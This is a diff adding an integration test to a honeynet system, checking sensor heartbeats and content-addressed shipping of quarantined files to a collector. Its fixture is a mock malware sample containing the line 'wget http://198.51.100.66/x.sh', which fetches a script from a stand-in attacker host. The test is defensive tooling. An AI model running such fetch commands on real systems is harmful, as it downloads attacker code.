@@ -4,7 +4,8 @@
 // (The issue asks for the collector to be down 30 s; 3 s exercises the same retry path and keeps CI short.)
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
-import { readFileSync } from 'node:fs';
+import { createHash } from 'node:crypto';
+import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { request } from 'node:https';
 import { join } from 'node:path';
 import { gzipSync } from 'node:zlib';
@@ -196,6 +197,37 @@ describe('honeynet: sensor -> collector -> PostgreSQL', () => {
     assert.deepEqual(n, { total: spooled.length + recorded, distinct: spooled.length + recorded });
     const ids = new Set((await pgQuery<{ id: string }>(url, 'SELECT id FROM events')).map((r) => r.id));
     assert.ok(spooled.every((id) => ids.has(id)), 'every event spooled before the kill is stored');
+    await collector.stop();
+  });
+
+  test('heartbeats reach the registry; quarantined files are shipped content-addressed, once', async () => {
+    const url = newDb();
+    const c = await collectorSetup({ pgUrl: url });
+    const collector = await track(c.start());
+    const dmz = await sensorSetup('dmz-1', `https://127.0.0.1:${c.port}`, await c.token('dmz-1'));
+    const quarantine = join(dmz.dir, 'data', 'quarantine');
+    mkdirSync(quarantine, { recursive: true });
+    const payload = Buffer.from('#!/bin/sh\nwget http://198.51.100.66/x.sh\n'.repeat(100));
+    const sha = createHash('sha256').update(payload).digest('hex');
+    writeFileSync(join(quarantine, sha), payload);
+    // A file whose content is not its name (a cut download) is not shipped.
+    writeFileSync(join(quarantine, 'a'.repeat(64)), 'not that');
+    const sensor = await track(dmz.start());
+    const landed = join(c.dir, 'data', 'quarantine', sha);
+    await waitFor(() => existsSync(landed), 10_000);
+    assert.deepEqual(readFileSync(landed), payload);
+    await waitFor(async () => (await runCli(['collector', 'sensors', '--json', '--config', c.configPath])).stdout.includes('"spool_depth"'), 10_000);
+    const row = JSON.parse((await runCli(['collector', 'sensors', '--json', '--config', c.configPath])).stdout.trim()) as {
+      name: string; revoked: boolean; heartbeat: { version: string; services: string[]; config_hash: string; address: string };
+    };
+    assert.equal(row.name, 'dmz-1');
+    assert.equal(row.revoked, false);
+    assert.deepEqual(row.heartbeat.services, ['ssh']);
+    assert.match(row.heartbeat.config_hash, /^[0-9a-f]{64}$/);
+    assert.equal(row.heartbeat.version, JSON.parse(readFileSync('package.json', 'utf8')).version);
+    await sensor.stop();
+    assert.deepEqual(readdirSync(join(c.dir, 'data', 'quarantine')).filter((n) => !n.startsWith('.')), [sha]);
+    assert.deepEqual(readFileSync(join(dmz.spoolDir, 'shipped-files'), 'utf8').trim().split('\n'), [sha], 'remembered, so not offered again');
     await collector.stop();
   });
 
